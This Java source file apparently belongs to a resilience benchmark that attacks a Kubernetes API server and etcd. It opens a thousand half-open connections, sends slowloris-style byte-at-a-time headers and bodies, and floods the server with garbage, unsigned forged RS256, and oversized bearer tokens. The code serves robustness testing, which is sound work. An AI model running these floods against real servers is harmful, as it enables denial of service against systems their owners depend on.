package dev.pintle.bench.hostile;

import dev.pintle.bench.client.ServerAddress;
import java.io.IOException;
import java.net.Socket;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.TimeUnit;

/// Connections that are opened and not used, and clients that nobody knows.
public final class ConnectionAttacks {
  private static final int CONNECTIONS = 1000;
  private static final int HANDSHAKES = 8;
  private static final int GUESSERS = 16;
  private static final int SILENCE_MILLIS_MAX = 12_000;
  private static final long DRIP_MILLIS = 200;
  private static final String HEAD =
      "POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: x\r\n";
  private static final String HELD = "open|closed";

  private ConnectionAttacks() {}

  public static List<Attack> all() {
    return List.of(
        halfOpen("1 000 connections that say nothing", new byte[0]),
        halfOpen("1 000 handshakes left half way", new byte[] {22, 3, 1}),
        handshakes(),
        slow("1 000 heads, a byte at a time", "X-Slow: "),
        slow(
            "1 000 bodies, a byte at a time",
            "Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"),
        tokens("bearer tokens that are no tokens", ConnectionAttacks::nonsense),
        tokens("signed tokens that nobody signed", ConnectionAttacks::unsigned),
        tokens("bearer tokens of 64 KB", () -> "x".repeat(1 << 16)));
  }

  private static Attack halfOpen(String name, byte[] said) {
    return Attack.of(
        name,
        strike -> {
          for (ServerAddress address :
              List.of(strike.victim().kubeAddress(), strike.victim().etcdAddress())) {
            strike.inParallel(
                strike.share(CONNECTIONS),
                _ -> {
                  Socket socket = strike.keep(address.connect());
                  socket.getOutputStream().write(said);
                  strike.count("open");
                });
          }
          strike.hold();
        },
        HELD);
  }

  private static Attack handshakes() {
    return Attack.of(
        "handshakes and nothing after",
        strike ->
            strike.inParallel(
                HANDSHAKES,
                _ -> {
                  do {
                    strike.victim().kubeAddress().open("h2", SILENCE_MILLIS_MAX).close();
                    strike.count("open");
                  } while (strike.goesOn());
                }),
        HELD);
  }

  private static Attack slow(String name, String said) {
    return Attack.of(
        name,
        strike ->
            strike.inParallel(
                strike.share(CONNECTIONS),
                _ -> {
                  Socket socket =
                      strike.keep(
                          strike.victim().kubeAddress().open("http/1.1", SILENCE_MILLIS_MAX));
                  String head =
                      HEAD + "Authorization: Bearer " + strike.victim().token() + "\r\n" + said;
                  socket.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
                  drip(strike, socket);
                }),
        HELD);
  }

  private static void drip(AttackRun strike, Socket socket)
      throws IOException, InterruptedException {
    while (strike.goesOn()) {
      socket.getOutputStream().write(' ');
      TimeUnit.MILLISECONDS.sleep(DRIP_MILLIS);
    }
    strike.count("open");
  }

  private interface Token {
    String next();
  }

  /// Another token each time, so that remembering the last ones does not help.
  private static Attack tokens(String name, Token token) {
    return Attack.of(
        name,
        strike ->
            strike.inParallel(
                GUESSERS,
                _ -> {
                  do {
                    HttpRequest request =
                        strike
                            .anonymous("/api/v1/namespaces/default/configmaps")
                            .header("Authorization", "Bearer " + token.next())
                            .build();
                    strike.count(strike.send(request));
                  } while (strike.goesOn());
                }),
        "401|429|431");
  }

  private static String nonsense() {
    return "t" + ThreadLocalRandom.current().nextLong(Long.MAX_VALUE);
  }

  private static String unsigned() {
    byte[] signature = new byte[256];
    ThreadLocalRandom.current().nextBytes(signature);
    String claims =
        "{\"iss\":\"https://kubernetes.default.svc\",\"sub\":\"system:serviceaccount:default:default\",\"exp\":9999999999,\"jti\":\"%d\"}"
            .formatted(ThreadLocalRandom.current().nextLong());
    return "%s.%s.%s"
        .formatted(
            encoded("{\"alg\":\"RS256\"}".getBytes(StandardCharsets.UTF_8)),
            encoded(claims.getBytes(StandardCharsets.UTF_8)),
            encoded(signature));
  }

  private static String encoded(byte[] bytes) {
    return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
  }
}
